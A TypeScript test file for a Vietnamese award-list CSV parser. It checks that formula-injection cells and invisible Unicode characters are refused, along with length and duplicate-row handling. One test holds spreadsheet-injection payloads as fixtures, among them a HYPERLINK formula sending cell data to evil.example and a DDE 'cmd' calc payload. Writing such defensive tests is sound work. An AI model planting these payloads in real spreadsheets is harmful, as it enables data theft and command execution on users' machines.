import { describe, expect, it } from 'vitest'
import { tinySetup } from '../../shared/testing/tiny-conference.js'
import { demoSetup } from '../seed/demo.js'
import { formulaProblem } from './checks.js'
import { parseAwardList, type Catalog } from './parse.js'

const setup = tinySetup()
const catalog = (existing: Catalog['existing'] = []): Catalog => ({ awardTypes: setup.awardTypes, sites: setup.sites, existing })
const parse = (text: string, c = catalog()) => parseAwardList(new TextEncoder().encode(text), { mediaType: 'text/csv' }, c)
const HEADER = 'Hình thức khen thưởng,Đối tượng,Tên,Đơn vị,Quyết định'

describe('formulas in a list', () => {
  it('refuses a cell that Excel would run, by row and column, saying what to do', async () => {
    const r = await parse([
      HEADER,
      'Bằng khen,Cá nhân,"=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm"")",Sở Nội vụ,',
      `Bằng khen,Cá nhân,Nguyễn Văn A,"=cmd|' /C calc'!A0",`,
      'Bằng khen,Tập thể,+SUM(1;2),,',
      'Bằng khen,Tập thể,Phòng B,,@SUM(1;2)',
      'Bằng khen,Tập thể,Phòng C,-2+3+cmd|x,',
      'Bằng khen,Tập thể,"\'=1+1",,',
    ].join('\n'))
    expect(r.awards).toEqual([])
    expect(r.errors.map((e) => [e.row, e.column])).toEqual([[2, 'Tên'], [3, 'Đơn vị'], [4, 'Tên'], [5, 'Quyết định'], [6, 'Đơn vị'], [7, 'Tên']])
    expect(r.errors[0]?.message).toBe(
      '“=HYPERLINK("http://evil.example/?x="&A1,…” bắt đầu bằng “=” nên Excel sẽ chạy nó như một công thức; tên, đơn vị hay quyết định thật không bắt đầu như vậy: hãy xóa ký tự “=” ở đầu ô hoặc sửa lại ô này',
    )
  })

  it('takes a dash before a word as text (a list bullet), and reads back the quote our export puts before it', async () => {
    const r = await parse(`${HEADER}\nBằng khen,Tập thể,Phòng Tư pháp,- Sở Tư pháp,\nBằng khen,Tập thể,Phòng D,'- UBND huyện,\n`)
    expect(r.errors).toEqual([])
    expect(r.awards.map((a) => a.unit)).toEqual(['- Sở Tư pháp', '- UBND huyện'])
    for (const text of ['Nguyễn Văn A', 'Phòng 2=3', '- Phòng', '-Phòng']) expect(formulaProblem(text), text).toBeUndefined()
  })
})

describe('invisible characters: refused by the dry run as the command refuses them', () => {
  it('names the row, the column and the character, in Vietnamese', async () => {
    const r = await parse([HEADER, 'Bằng khen,Cá nhân,Nguyễn\u200BVăn A,,', 'Bằng khen,Cá nhân,Trần Văn B,Sở \u202ENội vụ,', 'Bằng khen,Cá nhân,Lê Văn C,\u0301,'].join('\n'))
    expect(r.errors).toEqual([
      { row: 2, column: 'Tên', message: 'có khoảng trắng không độ rộng (U+200B) không nhìn thấy trên màn hình nhưng làm sai tên khi xướng và khi tìm: hãy xóa ô rồi gõ lại' },
      { row: 3, column: 'Đơn vị', message: 'có ký tự đảo ngược chiều chữ (U+202E) không nhìn thấy trên màn hình nhưng làm sai tên khi xướng và khi tìm: hãy xóa ô rồi gõ lại' },
      { row: 4, column: 'Đơn vị', message: 'ô không có chữ nào nhìn thấy được (chỉ có dấu cách, dấu thanh đứng riêng hoặc ký tự ẩn): hãy xóa ô rồi gõ lại' },
    ])
  })

  it('counts length as people do: 300 letters with their marks pass, 301 do not', async () => {
    const ok = await parse(`${HEADER}\nBằng khen,Cá nhân,${'ễ'.normalize('NFD').repeat(300)},,\n`)
    expect(ok.errors).toEqual([])
    const long = await parse(`${HEADER}\nBằng khen,Cá nhân,${'ễ'.repeat(301)},,\n`)
    expect(long.errors).toEqual([{ row: 2, column: 'Tên', message: 'dài 301 ký tự, quá giới hạn 300 ký tự' }])
  })
})

describe('rows the conference already holds', () => {
  const existing = [
    { id: 'bk-0001', typeId: 'bk', recipientKind: 'individual' as const, recipientName: 'Nguyễn Văn A', unit: 'Sở Nội vụ' },
    { id: 'bk-0002', typeId: 'bk', recipientKind: 'individual' as const, recipientName: 'Nguyễn Văn A', unit: 'Sở Nội vụ' },
  ]
  it('sets them apart one to one, whatever the case or spacing; new rows continue the ids', async () => {
    const r = await parse(`${HEADER}\nBằng khen,Cá nhân,nguyễn  văn a,Sở Nội vụ,\nBằng khen,Cá nhân,Trần Văn B,,\nBằng khen,Cá nhân,Nguyễn Văn A,Sở Nội vụ,\nBằng khen,Cá nhân,Nguyễn Văn A,Sở Nội vụ,\n`, catalog(existing))
    expect(r.errors).toEqual([])
    expect(r.listed).toEqual([{ row: 2, id: 'bk-0001' }, { row: 4, id: 'bk-0002' }])
    expect(r.awards.map((a) => [a.id, a.recipientName])).toEqual([['bk-0003', 'Trần Văn B'], ['bk-0004', 'Nguyễn Văn A']])
  })

  it('takes a row naming an existing id with the same content as listed, and refuses one with other content', async () => {
    const r = await parse(`Mã,${HEADER}\nbk-0002,Bằng khen,Cá nhân,Nguyễn Văn A,Sở Nội vụ,\nbk-0001,Bằng khen,Cá nhân,Lê Văn C,,\n`, catalog(existing))
    expect(r.listed).toEqual([{ row: 2, id: 'bk-0002' }])
    expect(r.errors).toEqual([{ row: 3, column: 'Mã', message: 'mã “bk-0001” đã có trong danh sách khen thưởng của hội nghị, cho một khen thưởng khác với dòng này' }])
  })
})

describe('sites by their short forms', () => {
  it('accepts the hub as “Điểm cầu tỉnh” or by its bracketed name, and a district without “Huyện”', async () => {
    const demo = demoSetup()
    const c: Catalog = { awardTypes: demo.awardTypes, sites: demo.sites, existing: [] }
    const rows = ['Điểm cầu tỉnh', 'điểm cầu TỈNH', 'UBND tỉnh Ninh Thuận', 'Điểm cầu tỉnh (UBND tỉnh Ninh Thuận)', 'Ninh Hải', 'hub']
    const csv = ['Hình thức khen thưởng,Đối tượng,Tên,Đơn vị,Điểm cầu', ...rows.map((s, i) => `Bằng khen của Chủ tịch UBND tỉnh,Cá nhân,Người ${i},,${s}`)].join('\n')
    const r = await parse(csv, c)
    expect(r.errors).toEqual([])
    expect(r.awards.map((a) => a.siteId)).toEqual(['hub', 'hub', 'hub', 'hub', 'ninh-hai', 'hub'])
  })
})
